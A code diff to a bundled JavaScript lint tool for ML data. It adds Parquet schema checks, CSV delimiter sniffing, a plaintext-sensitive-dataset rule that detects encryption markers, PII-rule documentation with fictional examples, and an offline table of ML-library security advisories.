+    const first = head.slice(0, head.search(/\r?\n|$/));
+    const counts = [',', '\t', ';', '|'].map((d) => [d, first.split(d).length - 1]);
+    const best = counts.reduce((a, b) => (b[1] > a[1] ? b : a));
+    return best[1] > 0 ? best[0] : ',';
 }
 
 const MAX_LINE_BYTES = 8 * 1024 * 1024;
@@ -63920,7 +64409,16 @@ async function openParquet(readAt, size) {
     catch (error) {
         wrap(error);
     }
-    const tree = parquetSchema(metadata);
+    let tree;
+    try {
+        // hyparquet builds the schema tree from the footer's flat list without checking it (a bad num_children
+        // throws a TypeError): anything it throws here is the file's fault.
+        tree = parquetSchema(metadata);
+        checkColumnPaths(metadata, tree);
+    }
+    catch (error) {
+        wrap(error);
+    }
     const columns = tree.children.map((c) => ({
         name: c.element.name,
         type: normaliseType(String(c.element.logical_type?.type ?? c.element.converted_type ?? c.element.type ?? (c.children.length ? 'GROUP' : 'UNKNOWN'))),
@@ -63934,6 +64432,35 @@ async function openParquet(readAt, size) {
         return out;
     });
     return { file, metadata, columns, numRows: Number(metadata.num_rows), rowGroups };
+}
+/**
+ * Every column chunk must name a distinct leaf of the schema. hyparquet (1.31) starts reading a row group's
+ * earlier columns before it looks up a later one; when that lookup throws, the earlier reads reject with no
+ * handler and the unhandled rejection ends the whole process (found by __tests__/fuzz). Checked up front so a
+ * file with a mangled column path is a FormatError instead.
+ */
+function checkColumnPaths(metadata, tree) {
+    for (const [g, group] of metadata.row_groups.entries()) {
+        const seen = new Set();
+        for (const chunk of group.columns) {
+            const path = chunk.meta_data?.path_in_schema;
+            if (!path?.length)
+                throw new FormatError(`Parquet row group ${g} has a column chunk without a path`);
+            let node = tree;
+            for (const name of path) {
+                const child = node.children.find((c) => c.element.name === name);
+                if (!child)
+                    throw new FormatError(`Parquet row group ${g} has a column ${JSON.stringify(path.join('.'))} that the schema does not declare`);
+                node = child;
+            }
+            if (node.children.length)
+                throw new FormatError(`Parquet row group ${g} has a column chunk for the group ${JSON.stringify(path.join('.'))}`);
+            const key = path.join('\0');
+            if (seen.has(key))
+                throw new FormatError(`Parquet row group ${g} has the column ${JSON.stringify(path.join('.'))} twice`);
+            seen.add(key);
+        }
+    }
 }
 /** Rows of the given row groups as plain objects (BigInt values become numbers or strings), in batches. */
 async function* parquetRows(pf, groups) {
@@ -64148,16 +64675,18 @@ function firstInvalid(buf) {
 }
 /** Holds back the bytes after the last newline. */
 async function* withoutPartialLine(chunks) {
-    let carry = Buffer.alloc(0);
+    // The pending bytes are kept as parts and joined only once a newline arrives: joining on every chunk made a
+    // single long line (a one-line CSV) cost quadratic time.
+    let carry = [];
     for await (const c of chunks) {
-        const buf = carry.length ? Buffer.concat([carry, c]) : c;
-        const last = buf.lastIndexOf(10);
+        const last = c.lastIndexOf(10);
         if (last < 0) {
-            carry = buf;
+            carry.push(c);
             continue;
         }
-        carry = Buffer.from(buf.subarray(last + 1));
-        yield buf.subarray(0, last + 1);
+        const head = carry.length ? Buffer.concat([...carry, c.subarray(0, last + 1)]) : c.subarray(0, last + 1);
+        carry = last + 1 < c.length ? [Buffer.from(c.subarray(last + 1))] : [];
+        yield head;
     }
 }
 /** Drops the partial first and last lines of a sample window. */
@@ -64180,7 +64709,8 @@ async function* textRows(source, plan) {
         const chunks = sampled ? wholeLines(piece.chunks) : piece.chunks;
         try {
             if (source.format === 'csv' || source.format === 'tsv') {
-                for await (const batch of csvBatches(chunks, { delimiter: header ? delimiter : sniffFirst() })) {
+                const [delim, rows] = header ? [delimiter, chunks] : await sniffFirst(chunks);
+                for await (const batch of csvBatches(rows, { delimiter: delim })) {
                     for (const rec of batch) {
                         if (!header) {
                             header = uniqueNames(rec.fields);
@@ -64199,7 +64729,7 @@ async function* textRows(source, plan) {
                         stats.firstBadRow ??= { line: item.line, reason: item.error };
                         continue;
                     }
-                    const values = isRecord(item.value) ? item.value : { value: item.value };
+                    const values = isRecord$1(item.value) ? item.value : { value: item.value };
                     for (const k of Object.keys(values))
                         if (!source.columns.includes(k) && source.columns.length < 10_000)
                             source.columns.push(k);
@@ -64229,9 +64759,23 @@ async function* textRows(source, plan) {
             throw error;
         }
     }
-    function sniffFirst() {
-        delimiter = source.format === 'tsv' ? '\t' : ',';
-        return delimiter;
+    /**
+     * The delimiter, from the header line in the first chunk (a .tsv is tab by name; a .csv may be `;` or `|`
+     * separated, as spreadsheets in many locales write it), and the chunks with the peeked one put back.
+     */
+    async function sniffFirst(chunks) {
+        const it = chunks[Symbol.asyncIterator]();
+        const first = await it.next();
+        const head = first.done ? '' : first.value.subarray(0, 64 * 1024).toString('utf8').replace(/^\uFEFF/, '');
+        delimiter = sniffDelimiter(source.format, head);
+        async function* again() {
+            if (first.done)
+                return;
+            yield first.value;
+            for (let n = await it.next(); !n.done; n = await it.next())
+                yield n.value;
+        }
+        return [delimiter, again()];
     }
 }
 function emit(stats, row) {
@@ -64273,7 +64817,7 @@ function zip(header, fields) {
         out[i < header.length ? header[i] : `column ${i + 1}`] = fields[i];
     return out;
 }
-function isRecord(v) {
+function isRecord$1(v) {
     return typeof v === 'object' && v !== null && !Array.isArray(v);
 }
 async function openParquetSource(total, reader, budget, stats) {
@@ -64392,7 +64936,7 @@ async function objectSource(total, reader, budget, stats) {
                         stats.firstBadRow ??= { line: item.line, reason: item.error };
                         continue;
                     }
-                    yield emit(stats, { line: item.line, values: isRecord(item.value) ? item.value : { value: item.value } });
+                    yield emit(stats, { line: item.line, values: isRecord$1(item.value) ? item.value : { value: item.value } });
                 }
                 if (total > stats.bytesRead)
                     stats.complete = false;
@@ -64400,7 +64944,7 @@ async function objectSource(total, reader, budget, stats) {
             }
             if (total > stats.bytesRead)
                 stats.complete = false;
-            if (isRecord(value)) {
+            if (isRecord$1(value)) {
                 source.columns = Object.keys(value);
                 yield emit(stats, { line: 1, values: value });
             }
@@ -64943,7 +65487,7 @@ const DATE_RE = new RegExp(`(?<![\\w/.-])(?:(?:19|20)\\d{2}-(?:0?[1-9]|1[0-2])-(
     + `|(?:0?[1-9]|[12]\\d|3[01])(?:st|nd|rd|th)? ${MONTH},? (?:19|20)\\d{2}`
     + `|${MONTH} (?:0?[1-9]|[12]\\d|3[01])(?:st|nd|rd|th)?,? (?:19|20)\\d{2})(?![\\w/-])`, 'gi');
 const DOB_CONTEXT_RE = /(?:born|birth|d\.?o\.?b\.?|birthday|geboren|née?)\W{0,3}(?:[\w]+\W{1,3}){0,3}$/i;
-function push(out, entity, m, confidence) {
+function push$1(out, entity, m, confidence) {
     out.push({ entity, value: m[0], index: m.index, length: m[0].length, confidence });
 }
 function before(text, index, n = 40) {
@@ -64955,7 +65499,7 @@ const findEmail = (text, hints, out) => {
     for (const m of text.matchAll(EMAIL_RE)) {
         if (m[0].includes('..'))
             continue;
-        push(out, 'email', m, 'high');
+        push$1(out, 'email', m, 'high');
     }
 };
 const findSsn = (text, hints, out) => {
@@ -64963,13 +65507,13 @@ const findSsn = (text, hints, out) => {
         if (!ssnValid(m[0]))
             continue;
         const context = /ssn|social|security/i.test(before(text, m.index));
-        push(out, 'us-ssn', m, m[1] === '-' || hints.has('us-ssn') || context ? 'high' : 'medium');
+        push$1(out, 'us-ssn', m, m[1] === '-' || hints.has('us-ssn') || context ? 'high' : 'medium');
     }
     if (!hints.has('us-ssn'))
         return;
     for (const m of text.matchAll(SSN_BARE_RE))
         if (ssnValid(m[0]))
-            push(out, 'us-ssn', m, 'medium');
+            push$1(out, 'us-ssn', m, 'medium');
 };
 const findCard = (text, hints, out) => {
     for (const m of text.matchAll(CARD_RE)) {
@@ -64986,7 +65530,7 @@ const findCard = (text, hints, out) => {
         if (hints.has('credit-card') || /card|credit|visa|mastercard|amex|cc/i.test(before(text, m.index, 30))) {
             conf = raise(conf);
         }
-        push(out, 'credit-card', m, conf);
+        push$1(out, 'credit-card', m, conf);
     }
 };
 const findIban = (text, hints, out) => {
@@ -65014,7 +65558,7 @@ const findIpv4 = (text, hints, out) => {
         let conf = special || versiony ? 'low' : 'medium';
         if (hints.has('ipv4') || /\bip\b|address|addr|host|client/i.test(before(text, m.index, 30)))
             conf = raise(conf);
-        push(out, 'ipv4', m, conf);
+        push$1(out, 'ipv4', m, conf);
     }
 };
 const findIpv6 = (text, hints, out) => {
@@ -65032,7 +65576,7 @@ const findIpv6 = (text, hints, out) => {
             conf = 'low';
         if (hints.has('ipv6'))
             conf = raise(conf);
-        push(out, 'ipv6', m, conf);
+        push$1(out, 'ipv6', m, conf);
     }
 };
 function phoneDigits(s) {
@@ -65049,7 +65593,7 @@ const findPhone = (text, hints, out) => {
             let conf = base;
             if (hinted || PHONE_CONTEXT_RE.test(before(text, m.index)))
                 conf = raise(conf);
-            push(out, 'phone', m, conf);
+            push$1(out, 'phone', m, conf);
         }
     };
     scan(PHONE_INTL_RE, 'high', 8, 15);
@@ -65063,11 +65607,11 @@ const findDob = (text, hints, out) => {
     const hinted = hints.has('date-of-birth');
     for (const m of text.matchAll(DATE_RE)) {
         if (hinted) {
-            push(out, 'date-of-birth', m, 'high');
+            push$1(out, 'date-of-birth', m, 'high');
             continue;
         }
         if (DOB_CONTEXT_RE.test(before(text, m.index, 40)))
-            push(out, 'date-of-birth', m, 'medium');
+            push$1(out, 'date-of-birth', m, 'medium');
     }
 };
 function shapeOf$1(text) {
@@ -65168,6 +65712,40 @@ var dataPii = defineRule({
             'expiry; to tune the check, set `entities`, `min-count` or `min-confidence`.',
         ].join('\n'),
         defaultSeverity: 'high',
+        docs: {
+            examples: {
+                bad: [
+                    {
+                        title: 'Customer emails and phone numbers in a training set (made-up people)',
+                        lang: 'csv',
+                        file: 'data/train.csv',
+                        code: [
+                            'review,email,phone',
+                            '"Great product, works as described",maria.lopez@gmail.com,+1 415 555 0132',
+                            '"Stopped working after a week",j.chen@outlook.com,+1 212 555 0187',
+                            '"Five stars",kofi.mensah@yahoo.com,+1 646 555 0143',
+                        ].join('\n'),
+                    },
+                ],
+                good: [
+                    {
+                        title: 'Pseudonymous ids instead of contact details',
+                        lang: 'csv',
+                        file: 'data/train.csv',
+                        code: [
+                            'review,user_id,rating',
+                            '"Great product, works as described",u_8f3a2c,5',
+                            '"Stopped working after a week",u_19bd07,1',
+                        ].join('\n'),
+                    },
+                ],
+            },
+            references: [
+                { title: 'GDPR Article 4: definition of personal data', url: 'https://gdpr-info.eu/art-4-gdpr/' },
+                { title: 'NIST SP 800-122: protecting the confidentiality of PII', url: 'https://csrc.nist.gov/pubs/sp/800/122/final' },
+                { title: 'Microsoft Presidio (the labelled corpus our tests measure recall on)', url: 'https://github.com/microsoft/presidio-research' },
+            ],
+        },
         kinds: ['dataset'],
         formats: DATASET_FORMATS,
         options: {
@@ -65249,7 +65827,7 @@ var dataPii = defineRule({
         }
         const read = describeRead(source.stats);
         for (const [column, byEntity] of tallies)
-            report$1(ctx, column, byEntity, read, options['min-count']);
+            report$2(ctx, column, byEntity, read, options['min-count']);
         const { stats } = source;
         if (stats.undecodableAt !== undefined || stats.badRows > 0) {
             const what = [
@@ -65263,7 +65841,7 @@ var dataPii = defineRule({
         }
     },
 });
-function report$1(ctx, column, byEntity, read, minCount) {
+function report$2(ctx, column, byEntity, read, minCount) {
     const kept = [...byEntity].filter(([, t]) => t.count >= minCount).sort((a, b) => b[1].count - a[1].count);
     if (kept.length === 0)
         return;
@@ -65278,13 +65856,13 @@ function report$1(ctx, column, byEntity, read, minCount) {
 }
 
 /** SPDX ids (and the lower-case short forms Hugging Face cards use) accepted by default: open data licenses. */
-const DEFAULT_LICENSES = [
+const DEFAULT_LICENSES$1 = [
     'CC0-1.0', 'CC-BY-4.0', 'CC-BY-SA-4.0', 'CC-BY-3.0', 'ODC-By-1.0', 'ODbL-1.0', 'PDDL-1.0', 'CDLA-Permissive-2.0',
     'CDLA-Permissive-1.0', 'CDLA-Sharing-1.0', 'MIT', 'Apache-2.0', 'BSD-2-Clause', 'BSD-3-Clause', 'Unlicense',
 ];
 /** Hugging Face's license identifiers that differ from SPDX only by spelling. */
 const ALIASES = { 'odc-by': 'odc-by-1.0', odbl: 'odbl-1.0', pddl: 'pddl-1.0', cc0: 'cc0-1.0', unlicense: 'unlicense' };
-const norm = (id) => { const l = id.trim().toLowerCase(); return ALIASES[l] ?? l; };
+const norm$1 = (id) => { const l = id.trim().toLowerCase(); return ALIASES[l] ?? l; };
 const LABEL = { 'collection-date': 'collection date' };
 const label = (f) => f.split('|').map((x) => LABEL[x] ?? x).join(' or ');
 var dataProvenance = defineRule({
@@ -65318,7 +65896,7 @@ var dataProvenance = defineRule({
             },
             additionalProperties: false,
         },
-        defaultOptions: { required: ['license', 'source', 'version|collection-date'], licenses: DEFAULT_LICENSES },
+        defaultOptions: { required: ['license', 'source', 'version|collection-date'], licenses: DEFAULT_LICENSES$1 },
     },
     async checkFile(ctx) {
         if (isCardFile(ctx.file.path))
@@ -65340,9 +65918,9 @@ var dataProvenance = defineRule({
         const license = cardField(card, 'license');
         if (license === undefined)
             return;
-        const allowed = new Set(ctx.options.licenses.map(norm));
+        const allowed = new Set(ctx.options.licenses.map(norm$1));
         const ids = (Array.isArray(license) ? license : [license]).map((l) => String(l));
-        const refused = ids.filter((id) => !allowed.has(norm(id)));
+        const refused = ids.filter((id) => !allowed.has(norm$1(id)));
         if (refused.length) {
             ctx.report({ message: `The dataset card ${card.path} declares license ${refused.map((l) => `"${l}"`).join(', ')}, which the policy's license allowlist does not include; check that the data may be used for this purpose, then add the SPDX id to \`licenses\` or replace the data.`, fingerprintKey: `license\0${card.path}\0${refused.join(',')}` });
         }
@@ -65570,6 +66148,120 @@ var dataSchemaDrift = defineRule({
         });
     },
 });
+
+const PII_SAMPLE_BYTES = 1024 * 1024;
+/** Files that describe or configure encryption rather than hold data. */
+const METADATA = /(^|\/)(\.gitattributes|\.gitignore|\.sops\.ya?ml|\.git-crypt\/.*|[^/]*\.(pub|asc\.pub))$|(^|\/)readme\.md$/i;
+/**
+ * How encrypted files start (or mark themselves), by tool:
+ * - git-crypt: the 10-byte header `\0GITCRYPT\0` (git-crypt's README, "file format").
+ * - age: `age-encryption.org/v1` (binary) or `-----BEGIN AGE ENCRYPTED FILE-----` (armored), from the age spec.
+ * - OpenPGP (GPG): an armored `-----BEGIN PGP MESSAGE-----`, or a binary packet (RFC 4880 §4.2) whose tag is a
+ *   public-key or symmetric-key encrypted session key (1, 3) or a symmetrically encrypted/integrity-protected
+ *   data packet (9, 18).
+ * - SOPS: values in `ENC[AES256_GCM,data:...]` form (JSON, YAML, dotenv, binary) or `sops_version=` (dotenv/ini).
+ */
+function encryptionMarker(head) {
+    if (head.subarray(0, 10).equals(Buffer.from('\0GITCRYPT\0', 'latin1')))
+        return 'git-crypt';
+    const text = head.toString('latin1');
+    if (text.startsWith('age-encryption.org/v1') || text.startsWith('-----BEGIN AGE ENCRYPTED FILE-----'))
+        return 'age';
+    if (/^\s*-----BEGIN PGP MESSAGE-----/.test(text))
+        return 'GPG';
+    if (head.length > 2 && pgpPacketTag(head[0]) !== undefined)
+        return 'GPG';
+    // SOPS writes its metadata at the end of the file (maybe past the head), but every value it encrypts has this form.
+    if (/ENC\[AES256_GCM,data:/.test(text) || /(^|\n)sops_version=/.test(text))
+        return 'SOPS';
+    return undefined;
+}
+function pgpPacketTag(b) {
+    if ((b & 0x80) === 0)
+        return undefined;
+    const tag = b & 0x40 ? b & 0x3f : (b >> 2) & 0x0f;
+    return [1, 3, 9, 18].includes(tag) ? tag : undefined;
+}
+/** Card keys that mark a dataset sensitive, with values that mean yes. */
+function cardSaysSensitive(card, keys) {
+    for (const key of keys) {
+        const v = cardField(card, key);
+        if (v === true || (typeof v === 'string' && /^(yes|true|high|confidential|restricted|secret|sensitive|pii|personal)$/i.test(v.trim())))
+            return `${key}: ${String(v)}`;
+        if (Array.isArray(v) && v.some((t) => typeof t === 'string' && /^(sensitive|pii|personal[-_ ]data|confidential)$/i.test(t)))
+            return `${key} includes ${v.find((t) => typeof t === 'string' && /^(sensitive|pii|personal[-_ ]data|confidential)$/i.test(t))}`;
+    }
+    return undefined;
+}
+var dataSensitiveUnencrypted = defineRule({
+    meta: {
+        id: 'data/sensitive-unencrypted',
+        description: 'A dataset that its card marks sensitive, or that sits under a sensitive path of the policy, is stored in plaintext.',
+        help: [
+            'Training data with personal or confidential records must not sit in a repository in plaintext: every clone,',
+            'fork, CI cache and backup then holds it, and git history keeps it after deletion. Teams that must keep such',
+            'data beside the code encrypt it (SOPS, age, git-crypt or GPG) so that only the pipeline holding the key can',
+            'read it. This rule checks datasets whose card marks them sensitive (for example `sensitive: true`,',
+            '`pii: true`, `sensitivity: confidential`, or a `pii` tag) and every file under the policy\'s sensitive',
+            'paths: a file without an encryption marker fails, and the message says when it also holds personal data.',
+            '',
+            '**Remediation**: remove the plaintext file from the PR (and from history if it was pushed), encrypt it',
+            '(`sops -e`, `age -r`, `git-crypt` with a `.gitattributes` filter, or `gpg -e`) and commit the encrypted',
+            'file. If the data is not sensitive, correct the card or the policy\'s `paths`.',
+        ].join('\n'),
+        defaultSeverity: 'high',
+        kinds: [],
+        options: {
+            type: 'object',
+            properties: {
+                paths: { type: 'array', items: { type: 'string', minLength: 1 }, description: 'Globs (relative to the root) under which every data file must be encrypted.' },
+                'card-keys': { type: 'array', items: { type: 'string', minLength: 1 }, description: 'Dataset card keys that mark the data sensitive.' },
+            },
+            additionalProperties: false,
+        },
+        defaultOptions: { paths: [], 'card-keys': ['sensitive', 'sensitivity', 'pii', 'contains_pii', 'personal_data', 'confidential', 'tags'] },
+    },
+    async checkRun(ctx) {
+        const under = ctx.options.paths.length ? picomatch(ctx.options.paths.map((p) => (p.endsWith('/') ? `${p}**` : p)), { dot: true }) : () => false;
+        for (const file of ctx.files) {
+            if (isCardFile(file.path) || METADATA.test(file.path) || file.size === 0)
+                continue;
+            let why;
+            if (under(file.path))
+                why = 'it is under a sensitive path of the policy';
+            else if (file.kind === 'dataset') {
+                const card = await findCard$1(file);
+                const mark = card && cardSaysSensitive(card, ctx.options['card-keys']);
+                if (mark)
+                    why = `its card ${card.path} marks it sensitive (${mark})`;
+            }
+            if (!why || encryptionMarker(file.head))
+                continue;
+            const pii = await personalData(file);
+            const holds = pii.length ? `, and it holds personal data (${summarise(pii)})` : '';
+            ctx.report({
+                path: file.path,
+                ...(pii.length ? { sensitive: pii.map((m) => m.value) } : {}),
+                message: `${file.path} is stored in plaintext but ${why}${holds}; encrypt it (SOPS, age, git-crypt or GPG) before committing, and remove the plaintext from the branch.`,
+            });
+        }
+    },
+});
+async function personalData(file) {
+    if (file.kind === 'model' || file.kind === 'binary')
+        return [];
+    const bytes = await readBounded(join(rootOf(file), file.path), PII_SAMPLE_BYTES);
+    if (!bytes || bytes.includes(0))
+        return [];
+    return findPii(bytes.toString('utf8')).filter((m) => confidenceAtLeast(m.confidence, 'medium')).slice(0, 1000);
+}
+function summarise(matches) {
+    const counts = new Map();
+    for (const m of matches)
+        counts.set(m.entity, (counts.get(m.entity) ?? 0) + 1);
+    const first = redact(matches[0].value);
+    return `${[...counts].map(([e, n]) => `${e} ×${n}`).join(', ')}; first ${first}`;
+}
 
 const MAX_LISTED$1 = 5;
 var dataTriggerTokens = defineRule({
@@ -66057,24 +66749,24 @@ const DEV_GROUP = /^(dev|develop|development|test|tests|testing|lint|linting|doc
 function parsePyproject(text) {
     const doc = parseToml(text);
     const out = [];
-    const project = obj(doc.value.project);
+    const project = obj$1(doc.value.project);
     addPep508List(out, doc, project.dependencies, '/project/dependencies', false);
-    for (const [group, list] of Object.entries(obj(project['optional-dependencies']))) {
+    for (const [group, list] of Object.entries(obj$1(project['optional-dependencies']))) {
         addPep508List(out, doc, list, `/project/optional-dependencies/${group}`, DEV_GROUP.test(group));
     }
-    for (const [group, list] of Object.entries(obj(doc.value['dependency-groups'])))
+    for (const [group, list] of Object.entries(obj$1(doc.value['dependency-groups'])))
         addPep508List(out, doc, list, `/dependency-groups/${group}`, true);
-    const tool = obj(doc.value.tool);
-    addPep508List(out, doc, obj(tool.uv)['dev-dependencies'], '/tool/uv/dev-dependencies', true);
-    const poetry = obj(tool.poetry);
+    const tool = obj$1(doc.value.tool);
+    addPep508List(out, doc, obj$1(tool.uv)['dev-dependencies'], '/tool/uv/dev-dependencies', true);
+    const poetry = obj$1(tool.poetry);
     addPoetry(out, doc, poetry.dependencies, '/tool/poetry/dependencies', false);
     addPoetry(out, doc, poetry['dev-dependencies'], '/tool/poetry/dev-dependencies', true);
-    for (const [group, g] of Object.entries(obj(poetry.group)))
-        addPoetry(out, doc, obj(g).dependencies, `/tool/poetry/group/${group}/dependencies`, true);
+    for (const [group, g] of Object.entries(obj$1(poetry.group)))
+        addPoetry(out, doc, obj$1(g).dependencies, `/tool/poetry/group/${group}/dependencies`, true);
     check(out);
     return { dependencies: out, includes: [], kind: 'pyproject' };
 }
-function obj(v) {
+function obj$1(v) {
     return typeof v === 'object' && v !== null && !Array.isArray(v) ? v : {};
 }
 function addPep508List(out, doc, list, pointer, dev) {
@@ -66090,11 +66782,11 @@ function addPep508List(out, doc, list, pointer, dev) {
 }
 /** Poetry: `name = "^1.2"`, `"1.2.3"` (exact), `{ version = "…" }`, or a list of such tables. */
 function addPoetry(out, doc, table, pointer, dev) {
-    for (const [display, raw] of Object.entries(obj(table))) {
+    for (const [display, raw] of Object.entries(obj$1(table))) {
         if (display.toLowerCase() === 'python')
             continue;
-        const spec = typeof raw === 'string' ? raw : typeof obj(raw).version === 'string' ? String(obj(raw).version) : '';
-        const url = typeof obj(raw).git === 'string' ? String(obj(raw).git) : typeof obj(raw).url === 'string' ? String(obj(raw).url) : undefined;
+        const spec = typeof raw === 'string' ? raw : typeof obj$1(raw).version === 'string' ? String(obj$1(raw).version) : '';
+        const url = typeof obj$1(raw).git === 'string' ? String(obj$1(raw).git) : typeof obj$1(raw).url === 'string' ? String(obj$1(raw).url) : undefined;
         const bare = /^\d[^,<>=!~^*\s]*$/.test(spec.trim());
         const specifier = spec === '*' ? '' : bare ? `==${spec.trim()}` : spec.replace(/\s+/g, '');
         out.push({ name: normalizeName(display), display, specifier, exact: exactOf(specifier), hashed: false, url, line: doc.lineOf(`${pointer}/${display}`) ?? 1, dev, lock: false });
@@ -66106,11 +66798,11 @@ function parseTomlLock(text, kind) {
     const out = [];
     const packages = Array.isArray(doc.value.package) ? doc.value.package : [];
     packages.forEach((p, i) => {
-        const pkg = obj(p);
-        const source = obj(pkg.source);
+        const pkg = obj$1(p);
+        const source = obj$1(pkg.source);
         if (typeof pkg.name !== 'string' || typeof pkg.version !== 'string' || source.editable !== undefined || source.virtual !== undefined)
             return;
-        const hashed = Array.isArray(pkg.files) || Array.isArray(pkg.wheels) || typeof obj(pkg.sdist).hash === 'string';
+        const hashed = Array.isArray(pkg.files) || Array.isArray(pkg.wheels) || typeof obj$1(pkg.sdist).hash === 'string';
         out.push({ name: normalizeName(pkg.name), display: pkg.name, specifier: `==${pkg.version}`, exact: pkg.version, hashed, line: doc.lineOf(`/package/${i}/version`) ?? 1, dev: pkg.category === 'dev', lock: true });
     });
     check(out);
@@ -66121,8 +66813,8 @@ function parsePipfile(text) {
     const doc = parseToml(text);
     const out = [];
     for (const [section, dev] of [['packages', false], ['dev-packages', true]]) {
-        for (const [display, raw] of Object.entries(obj(doc.value[section]))) {
-            const spec = typeof raw === 'string' ? raw : String(obj(raw).version ?? '*');
+        for (const [display, raw] of Object.entries(obj$1(doc.value[section]))) {
+            const spec = typeof raw === 'string' ? raw : String(obj$1(raw).version ?? '*');
             const specifier = spec === '*' ? '' : spec.replace(/\s+/g, '');
             out.push({ name: normalizeName(display), display, specifier, exact: exactOf(specifier), hashed: false, line: doc.lineOf(`/${section}/${display}`) ?? 1, dev, lock: false });
         }
@@ -66141,11 +66833,11 @@ function parsePipfileLock(text) {
     const lines = text.split('\n');
     const out = [];
     for (const [section, dev] of [['default', false], ['develop', true]]) {
-        for (const [display, raw] of Object.entries(obj(obj(value)[section]))) {
-            const version = String(obj(raw).version ?? '');
+        for (const [display, raw] of Object.entries(obj$1(obj$1(value)[section]))) {
+            const version = String(obj$1(raw).version ?? '');
             const needle = `"${display}"`;
             const line = lines.findIndex((l) => l.trimStart().startsWith(needle)) + 1 || 1;
-            out.push({ name: normalizeName(display), display, specifier: version, exact: exactOf(version), hashed: Array.isArray(obj(raw).hashes) && obj(raw).hashes.length > 0, line, dev, lock: true });
+            out.push({ name: normalizeName(display), display, specifier: version, exact: exactOf(version), hashed: Array.isArray(obj$1(raw).hashes) && obj$1(raw).hashes.length > 0, line, dev, lock: true });
         }
     }
     check(out);
@@ -66187,7 +66879,7 @@ function parseSetupCfg(text) {
 /** Conda environment.yml: conda specs (`pytorch=2.1.0=py3.11_0`, `numpy>=1.26`) and a `pip:` list. */
 function parseCondaEnv(text, filename) {
     const doc = parseYamlWithPositions(text, filename);
-    const deps = obj(doc.value).dependencies;
+    const deps = obj$1(doc.value).dependencies;
     const out = [];
     if (!Array.isArray(deps))
         return { dependencies: out, includes: [], kind: 'conda' };
@@ -66198,8 +66890,8 @@ function parseCondaEnv(text, filename) {
             if (dep)
                 out.push(dep);
         }
-        else if (Array.isArray(obj(d).pip)) {
-            obj(d).pip.forEach((p, j) => {
+        else if (Array.isArray(obj$1(d).pip)) {
+            obj$1(d).pip.forEach((p, j) => {
                 if (typeof p !== 'string')
                     return;
                 const dep = parseRequirementsTxt(p).dependencies[0];
@@ -67174,27 +67866,68 @@ var pep440Exports = requirePep440();
 /** When the table was last reviewed; findings cite it so a reader knows how fresh the offline check is. */
 const ADVISORY_TABLE_DATE = '2026-11-26';
 const ADVISORIES = [
+    // Each row was checked on 2026-11-26 against public sources found with the project's search tool; the comment
+    // above a row names them (GHSA = GitHub Advisory Database / github/advisory-database, NVD = nvd.nist.gov).
+    // Confirmed: GHSA-53q9-r3pm-6pq6 (pytorch/pytorch advisory, "affected <=2.5.1, patched 2.6.0"; advisory-database PR #6063).
     { id: 'CVE-2025-32434', aliases: ['GHSA-53q9-r3pm-6pq6'], packages: ['torch'], affected: ['<2.6.0'], fixed: '2.6.0', impact: 'code-execution', published: '2025-04', summary: 'torch.load(weights_only=True) can still run code from a crafted checkpoint' },
+    // Confirmed: NVD text quoted in adrienpetralia/ApplianceDetectionBenchmark#2 ("parse_type_line ... eval ... fix in 1.13.1");
+    // github/advisory-database PR #1571 "[GHSA-47fc-vmwq-366v] ... Adding patched version 1.13.1".
     { id: 'CVE-2022-45907', aliases: ['GHSA-47fc-vmwq-366v'], packages: ['torch'], affected: ['<1.13.1'], fixed: '1.13.1', impact: 'code-execution', published: '2022-11', summary: 'torch.jit.annotations.parse_type_line calls eval on its input' },
+    // Confirmed: CERT/CC VU#253266 (2024-04-16) and NVD: Lambda layers in models "prior to Keras 2.13" inject code.
     { id: 'CVE-2024-3660', packages: ['keras'], affected: ['<2.13'], fixed: '2.13', impact: 'code-execution', published: '2024-04', summary: 'Lambda layers in a loaded model run arbitrary code' },
-    { id: 'CVE-2025-1550', packages: ['keras'], affected: ['>=3.0.0,<3.9.0'], fixed: '3.9.0', impact: 'code-execution', published: '2025-03', summary: 'Model.load_model runs code from a crafted .keras file even with safe_mode=True' },
-    { id: 'CVE-2025-8747', packages: ['keras'], affected: ['>=3.0.0,<3.11.0'], fixed: '3.11.0', impact: 'code-execution', published: '2025-08', summary: 'safe_mode bypass in Model.load_model lets a crafted .keras archive run code' },
+    // Confirmed: keras-team/keras advisory GHSA-48g7-3x6r-xfhp ("fixed starting with version 3.9"), quoted in queens-py/queens#279;
+    // affected ">= 3.0.0, < 3.9.0" per the GHSA listing.
+    { id: 'CVE-2025-1550', aliases: ['GHSA-48g7-3x6r-xfhp'], packages: ['keras'], affected: ['>=3.0.0,<3.9.0'], fixed: '3.9.0', impact: 'code-execution', published: '2025-03', summary: 'Model.load_model runs code from a crafted .keras file even with safe_mode=True' },
+    // Confirmed: CVE record "Keras versions 3.0.0 through 3.10.0"; GHSA-c9rc-mg46-23w3 ">= 3.0.0, < 3.11.0, patched 3.11.0".
+    { id: 'CVE-2025-8747', aliases: ['GHSA-c9rc-mg46-23w3'], packages: ['keras'], affected: ['>=3.0.0,<3.11.0'], fixed: '3.11.0', impact: 'code-execution', published: '2025-08', summary: 'safe_mode bypass in Model.load_model lets a crafted .keras archive run code' },
+    // Confirmed: TensorFlow advisory text (quoted in NixOS/nixpkgs#138695): yaml.unsafe_load in model_from_yaml, fixed in 2.6.0
+    // with cherry-picks to 2.5.1, 2.4.3 and 2.3.4.
     { id: 'CVE-2021-37678', packages: ['tensorflow', 'tensorflow-cpu', 'tensorflow-gpu'], affected: ['<2.3.4', '>=2.4.0,<2.4.3', '>=2.5.0,<2.5.1'], fixed: '2.5.1', impact: 'code-execution', published: '2021-08', summary: 'model_from_yaml uses yaml.unsafe_load, so a YAML model config runs code' },
+    // Confirmed: NVD (2024-04-10): pickle.load in TFPreTrainedModel.load_repo_checkpoint; pytorch/executorch#3227 "Update to
+    // transformers 4.38 to fix CVE-2024-3568".
     { id: 'CVE-2024-3568', packages: ['transformers'], affected: ['<4.38.0'], fixed: '4.38.0', impact: 'code-execution', published: '2024-04', summary: 'loading a TF checkpoint through load_repo_checkpoint unpickles untrusted data' },
-    { id: 'CVE-2023-6730', packages: ['transformers'], affected: ['<4.36.0'], fixed: '4.36.0', impact: 'code-execution', published: '2023-12', summary: 'RagRetriever deserialises an index with pickle' },
-    { id: 'CVE-2023-1177', packages: ['mlflow'], affected: ['<2.2.1'], fixed: '2.2.1', impact: 'file-access', published: '2023-03', summary: 'path traversal in the tracking server lets a client read (and via that, take over) the host' },
+    // Confirmed: NVD (2023-12-19) "huggingface/transformers prior to 4.36"; the unsafe pickle.load calls were in the RAG
